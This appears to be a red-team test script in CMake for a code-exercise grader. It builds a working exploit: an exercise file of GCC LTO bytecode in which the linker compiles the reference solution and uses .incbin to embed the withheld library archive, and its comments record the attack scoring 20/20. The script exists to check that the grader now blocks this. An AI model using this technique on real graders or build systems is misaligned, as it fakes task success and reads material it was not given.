# Red team, third round: the link stage sees the whole library archive, and an object file can make
# it run the assembler. An exercise file made only of a top-level asm statement that writes GCC
# LTO sections (.gnu.lto_*, with __gnu_lto_slim) compiles to an object that the linker plugin
# claims: at link time lto-wrapper compiles the bytecode and assembles its top-level asm, in the
# link stage's view and working folder, where ".incbin \"../archives/1/libopspace_core.a\""
# embeds the library's whole archive (singularity.cpp.o included, which the handout withholds)
# into the runner as data. nm of the runner then lists only the label of the data.
# Seen on 55ffd98: the runner holds the 1.1 MB archive and earns 20/20 (the gate below passes).
#
# The bytecode is made here, with the grader's own compile flags: the reference p4 plus a gate
# (a static constructor that ends the runner before its first answer unless it holds an ar
# archive with singularity.cpp.o in it) is compiled to assembly, that assembly is wrapped in a
# top-level asm() and compiled with -flto, and the LTO sections of that object become the
# exercise file's asm statement. The object's ordinary code is nothing: without the plugin's
# claim the student's functions are undefined and the link fails. Problem 4 must earn 0.
set(TARGET p4.cpp)
set(lto "${WORK}/lto")
file(MAKE_DIRECTORY "${lto}")
get_filename_component(apps "${GRADER}" DIRECTORY)
file(STRINGS "${apps}/../grader/runner-toolchain.txt" compile_lines REGEX "^compile=")
set(flags)
foreach(line IN LISTS compile_lines)
  string(REGEX REPLACE "^compile=" "" value "${line}")
  list(APPEND flags "${value}")
endforeach()
list(POP_FRONT flags compiler)
# Without debug information: the attack needs the code alone, and the sanitized suite's -g made
# a 24 MB assembly file that this script's line loop below took over 15 minutes to read.
list(FILTER flags EXCLUDE REGEX "^-g")

file(READ "${SOLUTIONS}/p4.cpp" reference)
file(WRITE "${lto}/gated.cpp" "${reference}" [=[

#include <unistd.h>

#include <cstring>

asm(".pushsection .rodata.blob,\"a\"\n.globl opspace_blob\nopspace_blob:\n"
    ".incbin \"../archives/1/libopspace_core.a\"\n.globl opspace_blob_end\nopspace_blob_end:\n.popsection");
extern "C" const char opspace_blob[], opspace_blob_end[];

namespace {
struct Gate {
  Gate() {
    const std::size_t n = static_cast<std::size_t>(opspace_blob_end - opspace_blob);
    const char* member = "singularity.cpp.o";
    const bool archive = n > 8 && std::memcmp(opspace_blob, "!<arch>\n", 8) == 0 &&
                         memmem(opspace_blob, n, member, std::strlen(member)) != nullptr;
    if (!archive) _exit(0);
  }
} gate;
}  // namespace
]=])
execute_process(COMMAND "${compiler}" ${flags} -S "${lto}/gated.cpp" -o "${lto}/gated.s" RESULT_VARIABLE rc ERROR_VARIABLE err)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "link_lto_incbin: cannot compile the gated reference:\n${err}")
endif()
file(STRINGS "${lto}/gated.s" assembly)
set(kept)
foreach(line IN LISTS assembly)
  if(NOT line MATCHES "^[ \t]*\\.(file|ident)[ \t]")
    string(APPEND kept "${line}\n")
  endif()
endforeach()
file(WRITE "${lto}/wrapped.cpp" "asm(R\"ASM(\n${kept})ASM\");\n")
execute_process(COMMAND "${compiler}" -O2 -flto -c "${lto}/wrapped.cpp" -o "${lto}/wrapped.o" RESULT_VARIABLE rc ERROR_VARIABLE err)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "link_lto_incbin: cannot compile the bytecode:\n${err}")
endif()
execute_process(COMMAND readelf -SW "${lto}/wrapped.o" OUTPUT_VARIABLE sections RESULT_VARIABLE rc)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "link_lto_incbin: readelf failed")
endif()
string(REPLACE "\n" ";" sections "${sections}")
set(asm)
foreach(line IN LISTS sections)
  if(line MATCHES "\\] (\\.gnu\\.lto_[^ ]*) +PROGBITS +[0-9a-f]+ ([0-9a-f]+) ([0-9a-f]+)")
    set(name "${CMAKE_MATCH_1}")
    math(EXPR offset "0x${CMAKE_MATCH_2}")
    math(EXPR size "0x${CMAKE_MATCH_3}")
    string(APPEND asm ".section ${name},\"e\",@progbits\n")
    if(size GREATER 0)
      file(READ "${lto}/wrapped.o" bytes OFFSET ${offset} LIMIT ${size} HEX)
      string(REGEX REPLACE "(..)" "0x\\1," bytes "${bytes}")
      string(REGEX REPLACE ",$" "" bytes "${bytes}")
      string(APPEND asm ".byte ${bytes}\n")
    endif()
  endif()
endforeach()
if(NOT asm MATCHES "\\.gnu\\.lto_\\.asm")
  message(FATAL_ERROR "link_lto_incbin: the bytecode holds no top-level asm section")
endif()
set(FROM "#include <problems/4/contract.hpp>")
set(TO "${FROM}")
file(WRITE "${WORK}/exercises/${TARGET}"
     "${FROM}\n// Problem 4 as GCC LTO bytecode, compiled and assembled by the linker plugin in the link stage.\n"
     "asm(R\"LTO(\n${asm}.comm __gnu_lto_slim,1,1\n.text\n)LTO\");\n")
set(PREPEND "")
